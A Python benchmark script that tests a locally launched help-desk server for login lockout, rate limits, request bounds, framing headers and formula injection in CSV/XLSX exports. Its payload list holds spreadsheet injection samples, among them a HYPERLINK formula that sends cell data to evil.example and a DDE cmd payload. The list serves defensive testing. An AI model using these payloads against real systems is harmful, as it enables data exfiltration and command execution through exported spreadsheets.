"""Abuse bounds of a real server, measured from loopback: the help-desk login under guessing, formula
payloads in the exports, request bounds, rate limits and framing. Prints one table.

    .venv/bin/python bench/abuse.py [--index-dir index] [--guesses 50]

The server is `python app.py` on 127.0.0.1 with a temporary data folder and its own help-desk
password; nothing leaves the machine and the real help-desk database is never touched.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import secrets
import sys
import tempfile
import threading
import time
from pathlib import Path

import httpx

PROJECT_ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(PROJECT_ROOT / "tests"))  # the launchers the tests use (tests/support/)

from load import free_port  # bench/load.py, beside this script
from support.launch import start_app  # noqa: E402

from assistant.evaluation.metrics import p95  # noqa: E402

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&B2,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\r=1+2", "\t=1+2"]
FEEDBACK_LIMIT = "100/minute"


def ask_latencies(url: str, seconds: float, stop: threading.Event | None = None) -> list[float]:
    """/api/ask, one question after another, for `seconds` (or until `stop`)."""
    timings, deadline = [], time.monotonic() + seconds
    with httpx.Client(base_url=url, timeout=30) as client:
        while time.monotonic() < deadline and not (stop and stop.is_set()):
            started = time.perf_counter()
            client.post("/api/ask", json={"question": "Apa kewajiban pemerintah daerah dalam pembangunan Sentra IKM?"})
            timings.append((time.perf_counter() - started) * 1000)
    return timings


def guessing(url: str, guesses: int, password: str) -> dict:
    idle = ask_latencies(url, 5)
    stop, during = threading.Event(), []
    measuring = threading.Thread(target=lambda: during.extend(ask_latencies(url, 60, stop)))
    measuring.start()
    statuses = []
    with httpx.Client(base_url=url, timeout=30) as client:
        for n in range(guesses):
            statuses.append(client.post("/helpdesk/login", data={"password": f"salah-{n}"}).status_code)
        right = client.post("/helpdesk/login", data={"password": password}).status_code
    time.sleep(1)
    stop.set()
    measuring.join()
    refused = statuses.index(429) if 429 in statuses else None
    return {
        "wrong passwords sent": guesses,
        "locked out after (wrong)": refused if refused is not None else "never",
        "right password while locked": right,
        "/api/ask p95 idle (ms)": round(p95(idle), 1),
        "/api/ask p95 during guessing (ms)": round(p95(during), 1),
        "ratio (target <= 2)": round(p95(during) / p95(idle), 2),
    }


def exports(url: str, password: str) -> dict:
    from openpyxl import load_workbook

    with httpx.Client(base_url=url, timeout=30) as client:
        for payload in PAYLOADS:
            client.post("/api/feedback", json={"question": payload, "answer": payload, "rating": "down"})
        anonymous = client.get("/helpdesk/export/umpan-balik-negatif.csv").status_code
        if client.post("/helpdesk/login", data={"password": password}).status_code != 303:
            return {"export without session": anonymous, "exports inspected": "login failed"}
        text = client.get("/helpdesk/export/umpan-balik-negatif.csv").content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
        sheet = load_workbook(io.BytesIO(client.get("/helpdesk/export/umpan-balik-negatif.xlsx").content)).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("question")] for row in sheet.iter_rows(min_row=2)]
    return {
        "export without session": anonymous,
        "formula payloads": len(PAYLOADS),
        "CSV cells read as text (leading ')": sum(r["question"].startswith("'") for r in rows),
        "xlsx cells typed as text": sum(c.data_type == "s" and c.value in PAYLOADS for c in cells),
        "export files left in the temp folder": len(list(Path(tempfile.gettempdir()).glob("sentra-helpdesk-*"))),
    }


def bounds(url: str) -> dict:
    with httpx.Client(base_url=url, timeout=30) as client:
        big = client.post("/api/feedback", content=b"x" * 2_000_000, headers={"Content-Type": "application/json"})
        history = [{"role": "user", "content": "Sentra IKM " * 2000}]
        cut = client.post("/api/ask", json={"question": "Siapa yang membangunnya?", "history": history}).json()
        started, statuses = time.monotonic(), []
        for _ in range(300):
            statuses.append(client.post("/api/feedback", json={"question": "q", "answer": "a", "rating": "up"}).status_code)
        elapsed = time.monotonic() - started
        other = {"Origin": "https://situs-lain.example"}
        chat = client.get("/", headers=other).headers.get("content-security-policy", "")
        widget = client.get("/widget/", headers=other).headers.get("content-security-policy", "(tidak ada)")
    return {
        "2 MB body": big.status_code,
        "20,000-char history turn": "cut, notice" if any("dipotong" in n for n in cut["notices"]) else "NOT cut",
        f"300 feedback POSTs in {elapsed:.1f} s (limit {FEEDBACK_LIMIT})": f"{statuses.count(201)} stored, "
        f"{statuses.count(429)} x 429, first 429 at #{statuses.index(429) + 1 if 429 in statuses else '-'}",
        "/ frame-ancestors": chat,
        "/widget/ frame-ancestors (allowed origins: *)": widget or "(tidak ada)",
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--index-dir", type=Path, default=None)
    parser.add_argument("--guesses", type=int, default=50)
    args = parser.parse_args()
    password = secrets.token_urlsafe(12)
    results = {}
    with tempfile.TemporaryDirectory(prefix="sentra-abuse-") as data:
        for name, measure in (("login", lambda url: guessing(url, args.guesses, password)),
                              ("exports", lambda url: exports(url, password)), ("bounds", bounds)):
            env = dict(os.environ, GRADIO_ANALYTICS_ENABLED="False", SENTRA_DATA_DIR=f"{data}/{name}",
                       SENTRA_HELPDESK_PASSWORD=password, SENTRA_FEEDBACK_RATE_LIMIT=FEEDBACK_LIMIT,
                       SENTRA_ASK_RATE_LIMIT="")
            if args.index_dir is not None:
                env["SENTRA_INDEX_DIR"] = str(args.index_dir)
            port = free_port()
            process = start_app(port, env)
            try:
                results[name] = measure(f"http://127.0.0.1:{port}")
            finally:
                process.terminate()
                process.wait(timeout=30)
    width = max(len(key) for rows in results.values() for key in rows)
    print(f"{'check':<{width}}  result")
    for name, rows in results.items():
        print(f"-- {name}")
        for key, value in rows.items():
            print(f"{key:<{width}}  {value}")


if __name__ == "__main__":
    main()
